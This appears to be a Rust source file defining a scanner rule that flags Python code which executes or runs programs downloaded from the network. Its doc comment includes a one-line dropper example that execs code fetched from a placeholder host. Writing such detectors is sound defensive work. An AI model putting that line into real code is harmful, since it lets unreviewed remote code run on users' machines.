//! PY002 download-then-exec.

use crate::context::{Cx, by_context};
use assay_core::{Capability, Finding, Severity};
use assay_lang::{EventKind, Taint};

declare_rule! {
    /// ## What it does
    /// Flags `exec`/`eval`/`compile` of data that came from the network (`urlopen(...).read()`,
    /// `requests.get(...).text`, sockets), and downloads written to disk that the same file
    /// then starts as a process.
    ///
    /// ## Why it matters
    /// A package that fetches its real payload at install or import time can change what it
    /// does after review, per victim and per day: the second stage never appears in the
    /// published artifact. This is the classic dropper shape.
    ///
    /// ## Example
    /// ```python
    /// import urllib.request
    /// exec(urllib.request.urlopen("https://example.invalid/stage2").read())
    /// ```
    ///
    /// ## False positives
    /// Very rare: installers of self-updating tools occasionally download and run an
    /// installer in runtime code (severity high there, critical when automatic). Code
    /// received on a raw socket (`recv`) and executed is critical in any context: that is
    /// a stager, and benign clients do not run what a bare socket sends them.
    ///
    /// ## References
    /// - CWE-494: Download of Code Without Integrity Check
    /// - MITRE ATT&CK T1105 (Ingress Tool Transfer)
    pub static META = {
        code: "PY002",
        name: "download-then-exec",
        family: Py,
        summary: "Executes code or programs fetched from the network",
        severity: Critical,
        confidence: High,
        targets: [Python, Pth],
        cwe: Some("CWE-494"),
        attack: Some("T1105"),
    }
}

/// Check every Python text.
pub fn check(cx: &Cx, out: &mut Vec<Finding>) {
    for f in &cx.python {
        let events = &f.analysis.events;
        let demote = |s: Severity| {
            if f.is_test_or_doc() {
                Severity::Medium
            } else {
                s
            }
        };
        for e in events
            .iter()
            .filter(|e| e.kind == EventKind::Exec && e.taint.has(Taint::NETWORK))
        {
            // Code read straight off a raw socket is a stager in any context: clients
            // and updaters fetch over HTTP(S) from a vendor host, they do not `recv()`
            // code from a bare socket and run it.
            let stager = e.taint.has(Taint::SOCKET);
            let sev = if stager {
                demote(Severity::Critical)
            } else {
                demote(by_context(
                    e.context,
                    Severity::Critical,
                    Severity::Critical,
                    Severity::High,
                ))
            };
            let what = if stager { "socket" } else { "network" };
            let mut x = cx.event_finding(
                &META,
                f,
                e,
                sev,
                format!("{} of {what} data: {}", e.api, e.snippet),
            );
            x.capabilities = vec![Capability::CodeExec, Capability::Network];
            out.push(x);
        }
        // download → run: a download (or a network read written to a file) and a process
        // start in the same execution context of the same file.
        let downloads = events.iter().filter(|e| {
            e.kind == EventKind::Download
                || (e.kind == EventKind::FileWrite && e.taint.has(Taint::NETWORK))
        });
        for d in downloads {
            let Some(run) = events.iter().find(|p| {
                p.kind == EventKind::ProcessSpawn && p.context == d.context && p.line >= d.line
            }) else {
                continue;
            };
            let sev = demote(by_context(
                d.context,
                Severity::Critical,
                Severity::Critical,
                Severity::High,
            ));
            let mut x = cx.event_finding(
                &META,
                f,
                run,
                sev,
                format!("downloads ({}) then runs: {}", d.snippet, run.snippet),
            );
            x.capabilities = vec![Capability::Process, Capability::Network];
            out.push(x);
        }
    }
}
